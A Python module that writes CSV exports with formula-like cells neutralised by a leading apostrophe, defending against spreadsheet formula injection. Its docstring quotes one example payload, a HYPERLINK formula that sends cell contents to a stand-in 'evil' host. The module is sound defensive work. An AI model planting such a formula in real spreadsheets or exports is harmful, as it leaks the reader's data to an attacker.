"""CSV that a spreadsheet opens as data, never as formulas: the one writer of every export.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, through their import quirks, a tab or carriage return) as a formula: a host name, file
name or failed-login user name like ``=HYPERLINK("http://evil/?"&A1,"open")`` would run on the
reader's machine. Such a cell is written with a leading apostrophe, which spreadsheets show as
text and hide; numbers are left alone (a negative number is data, not a formula).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value``, or the text ``'value`` when a spreadsheet would run it as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Echo:
    """csv.writer wants a file; this one hands each line back to the streaming response."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """The lines of a CSV file (header first), every cell neutralised, for a streaming response."""
    writer = csv.writer(_Echo())
    yield writer.writerow([safe_cell(c) for c in header])
    for row in rows:
        yield writer.writerow([safe_cell(c) for c in row])
